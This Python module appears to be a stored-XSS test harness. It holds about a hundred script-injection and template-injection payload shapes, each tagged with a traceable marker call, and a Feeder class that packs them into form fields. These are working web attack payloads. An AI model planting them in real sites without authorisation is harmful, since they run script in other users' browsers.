"""What somebody types who wants a colleague's browser to run it. Each one says its own number and the mark."""

from __future__ import annotations

MARK = "q.x"  # with a full stop, which no nonce or token that is drawn by chance can hold

# "{0}" is the call that would show that it ran.
_SHAPES = (
    "<script>{0}</script>", "<SCRIPT>{0}</SCRIPT>", "<scr<script>ipt>{0}</script>",
    "<script/src=//x.example>{0}</script>", "<script\n>{0}</script>", "</script><script>{0}</script>",
    "</title><script>{0}</script>", "</textarea><script>{0}</script>", "</style><script>{0}</script>",
    "</option></select><script>{0}</script>", "--><script>{0}</script>", "]]><script>{0}</script>",
    "<!--><script>{0}</script>-->", "<img src=x onerror={0}>", "<img src=x onerror='{0}'>",
    '<img src="x" onerror="{0}">', "<img/src=x/onerror={0}>", "<IMG SRC=x ONERROR={0}>",
    "<img src=x:x onerror&#61;{0}>", '"><img src=x onerror={0}>', "'><img src=x onerror={0}>",
    "`><img src=x onerror={0}>", '" onmouseover="{0}', "' onmouseover='{0}", '" autofocus onfocus="{0}',
    "' autofocus onfocus='{0}", " onclick={0} ", '" style="x:expression({0})', '" formaction="javascript:{0}',
    '" srcdoc="<script>{0}</script>', "<svg onload={0}>", "<svg/onload={0}>", "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x>", "<svg><set onbegin={0} attributeName=x>",
    "<svg><a xlink:href='javascript:{0}'><text>x</text></a></svg>",
    "<svg><foreignObject><body onload={0}></foreignObject></svg>",
    "<math><mtext><img src=x onerror={0}></mtext></math>", "<math href='javascript:{0}'>x</math>",
    "<body onload={0}>", "<body onpageshow={0}>", "<iframe src='javascript:{0}'>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>", "<iframe onload={0}>", "<embed src='javascript:{0}'>",
    "<object data='javascript:{0}'></object>", "<form action='javascript:{0}'><button>x</button></form>",
    "<button formaction='javascript:{0}'>x</button>", "<input autofocus onfocus={0}>",
    "<select autofocus onfocus={0}>", "<textarea autofocus onfocus={0}>", "<keygen autofocus onfocus={0}>",
    "<details open ontoggle={0}>", "<video src=x onerror={0}>", "<video><source onerror={0}></video>",
    "<audio src=x onerror={0}>", "<marquee onstart={0}>", "<marquee loop=1 onfinish={0}>x</marquee>",
    "<a href='javascript:{0}'>x</a>", "<a href='JaVaScRiPt:{0}'>x</a>", "<a href='java\tscript:{0}'>x</a>",
    "<a href='&#106;avascript:{0}'>x</a>", "<a href='data:text/html,<script>{0}</script>'>x</a>",
    "<a href='vbscript:{0}'>x</a>", "javascript:{0}", "javascript://%0a{0}", "data:text/html;base64,{0}",
    "<base href='javascript:{0}//'>", "<link rel=import href='data:,{0}'>",
    "<link rel=stylesheet href='javascript:{0}'>", "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<style>@import 'javascript:{0}';</style>", "<style>*{{background:url('javascript:{0}')}}</style>",
    "<div style='background:url(javascript:{0})'>", "<div style=\"width:expression({0})\">",
    "<div onclick={0}>x</div>", "<div onpointerenter={0}>x</div>", "<p onanimationstart={0} style=animation-name:x>",
    "<x onclick={0}>x</x>", "<xss-custom onmouseenter={0}>x", "<table background='javascript:{0}'>",
    "<td background='javascript:{0}'>", "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<template><script>{0}</script></template>", "<portal src='javascript:{0}'>",
    "<isindex action=javascript:{0} type=image>", "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;script&#62;{0}&#60;/script&#62;", "%3Cscript%3E{0}%3C/script%3E",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e", "\\x3cscript\\x3e{0}", "+ADw-script+AD4-{0}+ADw-/script+AD4-",
    "{{{{constructor.constructor('{0}')()}}}}", "${{{0}}}", "{{% debug %}}{0}", "{{{{ request.user.password }}}}{0}",
    "';{0};//", '";{0};//', "`;{0};//", "\\';{0};//", "*/{0}/*", "<%= {0} %>", "<?php {0} ?>",
    "＜script＞{0}＜/script＞",
    "<ſcript>{0}</ſcript>",
)  # fmt: skip
PAYLOADS = tuple(shape.format(f"{MARK}({number})") for number, shape in enumerate(_SHAPES))
ONE_LINE = tuple(payload for payload in PAYLOADS if "\n" not in payload and "\t" not in payload)


class Feeder:
    """Fills a field of any length with as many payloads as fit, and goes on with the next ones the next time."""

    def __init__(self) -> None:
        self.place: dict[str, int] = {}
        self.used: dict[str, set[str]] = {}

    def text(self, field: str, limit: int, *, several_lines: bool = False) -> str:
        """The next payloads for a field, a space between them."""
        payloads = PAYLOADS if several_lines else ONE_LINE
        fit = [payload for payload in payloads if len(payload) <= limit]
        chosen: list[str] = []
        for turn in range(len(fit)):
            payload = fit[(self.place.get(field, 0) + turn) % len(fit)]
            if len(" ".join([*chosen, payload])) > limit:
                break
            chosen.append(payload)
        self.place[field] = self.place.get(field, 0) + len(chosen)
        self.used.setdefault(field, set()).update(chosen)
        return " ".join(chosen)
